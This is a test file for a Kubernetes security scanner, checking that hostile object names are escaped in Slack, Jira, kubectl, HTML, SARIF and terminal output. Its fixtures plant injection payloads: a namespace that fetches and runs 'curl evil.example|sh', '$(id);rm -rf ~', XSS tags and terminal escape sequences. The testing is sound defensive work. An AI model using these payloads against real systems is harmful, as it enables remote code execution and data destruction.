// Invariant: attacker-controlled strings (object names, namespaces, container names, messages) are escaped in every
// output format. A cluster can hold objects created by anyone with create rights, and manifest scans read any file,
// so a name can carry Slack mentions and links, Jira wiki markup, HTML, shell metacharacters or terminal escapes.
import { describe, expect, it } from 'vitest';
import { runRules } from '../../shared/engine/run.ts';
import type { Finding } from '../../shared/model/finding.ts';
import { toWiki } from '../../shared/notify/jira/document.ts';
import { issueContent, jiraSettings, kubectlPatchCommand, ticketGroupsOf } from '../../shared/notify/jira/issue.ts';
import { toSlackMessage } from '../../shared/notify/slack/message.ts';
import { scanEvents } from '../../shared/pipeline/events.ts';
import { scanDigestOf } from '../../shared/pipeline/scan-digest.ts';
import { renderHtml } from '../../shared/report/html.ts';
import { renderSarif } from '../../shared/report/sarif.ts';
import type { ScanReport } from '../../shared/report/scan-report.ts';
import { renderTable } from '../../shared/report/table.ts';
import { rules } from '../../shared/rules/index.ts';
import { reconcile, summarize } from '../../shared/store/reconcile.ts';
import { countsOf } from '../../shared/store/records.ts';
import { container, deployment } from '../support/fixtures.ts';

const evilName = 'web<!channel> <http://evil.example|click> `x` *b* [evil|http://evil.example] {color:red}x{color} <img src=x onerror=alert(1)> $(id);rm -rf ~ \u001b]8;;http://evil.example\u0007\u001b[2J\u001b[31mRED\u001b[0m\u009b1m\nFAKE LINE';
const evilNamespace = "shop'; curl evil.example|sh #";
const evilContainer = 'app<script>alert(1)</script>';

const cluster = { id: 'arn:aws:eks:eu-west-1:111122223333:cluster/prod', name: 'prod', arn: 'arn:aws:eks:eu-west-1:111122223333:cluster/prod', accountId: '111122223333', region: 'eu-west-1', source: 'eks' as const };

function evilFindings(): Finding[] {
  const d = deployment({
    name: evilName,
    namespace: evilNamespace,
    spec: { containers: [container({ name: evilContainer, securityContext: { privileged: true } })] },
  });
  const snapshot = {
    cluster,
    objects: { Deployment: [d] },
    coverage: { Deployment: { complete: true, count: 1 } },
    takenAt: '2026-01-01T00:00:00.000Z',
  };
  const findings = runRules(snapshot, rules).findings;
  expect(findings.some((f) => f.ruleId === 'privileged-container' && f.resource.name === evilName)).toBe(true);
  return findings;
}

describe('attacker-controlled names are escaped in every output', () => {
  const findings = evilFindings();
  const report: ScanReport = { cluster, scannedAt: '2026-01-01T00:00:00.000Z', coverage: { Deployment: { complete: true, count: 1 } }, findings, rules };

  it('Slack: no mention, link or code-span breakout reaches mrkdwn, in blocks or the fallback text', () => {
    const r = reconcile([], findings, report.coverage, { scannedAt: report.scannedAt });
    const events = scanEvents({
      cluster,
      scanId: 'scan-1',
      startedAt: report.scannedAt,
      completedAt: report.scannedAt,
      outcome: { reconciliation: r, summary: summarize(r), counts: countsOf(r.active) },
      coverage: report.coverage,
      baseline: false,
    });
    const completed = events.find((e) => e.detailType === 'Scan Completed')!.detail as Parameters<typeof scanDigestOf>[0];
    const message = toSlackMessage(scanDigestOf(completed, { minSeverity: 'low' })!);
    const texts = [message.text, ...message.blocks.flatMap((b) => ('text' in b ? [b.text.text] : 'elements' in b ? b.elements.map((e) => e.text) : []))];
    const all = texts.join('\n');
    expect(all).toContain('web&lt;!channel&gt;');
    expect(all).not.toMatch(/<!channel>|<http:\/\/evil/);
    // Inside a `code span`, a backtick in a name would close the span and let the rest render as mrkdwn.
    for (const text of texts) {
      for (const line of text.split('\n').filter((l) => l.includes('web&lt;'))) expect(line.split('`').length % 2).toBe(1);
    }
  });

  it('Jira: wiki markup in names is escaped, and the kubectl command quotes every argument', () => {
    const settings = jiraSettings({ projectKey: 'SEC', flavour: 'data-center', minSeverity: 'low' });
    const groups = ticketGroupsOf(cluster.id, findings, settings, (id) => {
      const rule = rules.find((x) => x.id === id);
      return rule ? { id, ...rule.meta } : undefined;
    });
    const group = groups.find((g) => g.rule.id === 'privileged-container')!;
    const full = toWiki(issueContent(group, { ...cluster, name: cluster.name } as never, settings).description);
    // {code} blocks are rendered verbatim (the kubectl command holds the name, quoted): the rest is markup.
    const wiki = full.replace(/\{code(?::[a-z]+)?\}[\s\S]*?\{code\}/g, '');
    expect(wiki.length).toBeLessThan(full.length);
    expect(wiki).not.toContain('[evil|http://evil.example]');
    expect(wiki).toContain('\\[evil\\|http://evil.example\\]');
    expect(wiki).not.toContain('{color:red}');

    const privileged = findings.find((f) => f.ruleId === 'privileged-container')!;
    const command = kubectlPatchCommand(privileged)!;
    // Every argument after `kubectl patch deployment` is single-quoted: no `;`, `$(`, `|` or newline is live.
    const unquoted = command.replace(/'(?:[^']|'\\'')*'/g, "''").replace(/'\\''/g, '');
    expect(unquoted).toBe("kubectl patch deployment '' -n '' --type=json -p ''");
  });

  it('HTML: nothing from the cluster becomes markup', () => {
    const html = renderHtml(report);
    expect(html).not.toContain('<img src=x');
    expect(html).not.toContain('<script>alert(1)');
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('SARIF: names stay inside JSON strings and parse back unchanged', () => {
    const sarif = JSON.parse(renderSarif(report, '0.0.0-test')) as { runs: { results: { message: { text: string } }[] }[] };
    expect(sarif.runs[0]!.results.length).toBeGreaterThan(0);
  });

  it('table: terminal escape sequences and line breaks in names are neutralised, colours still work', () => {
    for (const color of [false, true]) {
      const table = renderTable(report, { color, maxResources: 100, maxMessages: 100 });
      // Only the table's own SGR colour codes may remain; the planted OSC 8 link, clear-screen and C1 CSI are gone.
      expect(table).not.toContain('\u001b]8');
      expect(table).not.toContain('\u001b[2J');
      expect(table).not.toContain('\u009b');
      expect(table).not.toContain('\u0007');
      expect(table).not.toMatch(/^FAKE LINE/m);
      if (!color) expect(table).not.toContain('\u001b');
      // The name is still recognisable, its control characters shown visibly.
      expect(table).toContain('\\u001b[31mRED');
    }
  });
});
